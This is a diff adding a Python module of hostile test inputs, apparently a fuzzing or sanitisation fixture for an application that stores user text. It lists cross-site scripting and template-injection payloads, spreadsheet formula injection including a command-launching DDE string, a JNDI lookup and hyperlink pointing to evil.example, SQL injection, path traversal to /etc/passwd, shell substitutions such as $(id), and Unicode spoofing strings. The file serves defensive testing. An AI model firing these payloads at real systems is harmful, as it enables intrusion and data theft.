@@ -1,0 +1,81 @@
+"""Texts that devices and people send, which markup, spreadsheets, templates, terminals and databases read otherwise."""
+
+MARKUP = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</title></textarea></style><script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg/onload=alert(1)>",
+    '" autofocus onfocus="alert(1)',
+    "' onmouseover='alert(1)",
+    "javascript:alert(1)",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<!--",
+    "]]>",
+    "&lt;script&gt;&amp;&#60;",
+    "<a href=//evil.example>",
+    "{{7*7}}",
+    "{% load static %}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "`alert(1)`",
+]
+SPREADSHEET = [
+    '=HYPERLINK("http://evil.example","x")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    " =1+1",
+    "'=1+1",
+    "''@x",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\N{NO-BREAK SPACE}=1",
+    "\N{FULLWIDTH EQUALS SIGN}1+1",
+    "\N{FULLWIDTH PLUS SIGN}1",
+    'a "quoted", line\nbreak',
+    "a;b\tc|d",
+]
+PROGRAMS = [
+    "${jndi:ldap://evil.example/a}",
+    "%0d%0aSet-Cookie: a=b",
+    "%s%n%d",
+    "'; DROP TABLE studies_study; --",
+    "' OR '1'='1",
+    "*",
+    "?",
+    "%",
+    "_",
+    "\\",
+    "*?%_\\",
+    "../../../etc/passwd",
+    "a/b\\c",
+    "$(id)",
+    "`id`",
+    "|id",
+    "\x1b[2J\x1b]0;owned\x07",
+    "\x7f\x01",
+    '{"event": "forged"}\n{"event": "forged"}',
+    "null",
+]
+UNICODE = [
+    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
+    "\N{RIGHT-TO-LEFT MARK}Mayer\N{LEFT-TO-RIGHT ISOLATE}",
+    "\N{ZERO WIDTH NO-BREAK SPACE}BOM",
+    "zero\N{ZERO WIDTH SPACE}width\N{ZERO WIDTH JOINER}",
+    "line\N{LINE SEPARATOR}para\N{PARAGRAPH SEPARATOR}\x85",
+    "e\N{COMBINING ACUTE ACCENT}" + "\N{COMBINING DIAERESIS}" * 30,
+    "😀👩‍👩‍👧‍👦🇩🇪",
+    "Müller^Jörg=山田^太郎=やまだ^たろう",
+    "ﷺ" * 16,
+    "İ\N{LATIN SMALL LETTER DOTLESS I}\N{LATIN SMALL LETTER LONG S}\N{KELVIN SIGN}",
+    "\U0010ffff\ue000",
+]
+LONG = ["x" * 65_536]
+# What a database keeps. NUL and halves of surrogate pairs it does not: those are for the doors.
+TEXTS = [*MARKUP, *SPREADSHEET, *PROGRAMS, *UNICODE]
+WORST = [MARKUP[1], MARKUP[3], MARKUP[6], MARKUP[7], MARKUP[13], UNICODE[0]]
+REFUSED = ["\0", "a\0b"]
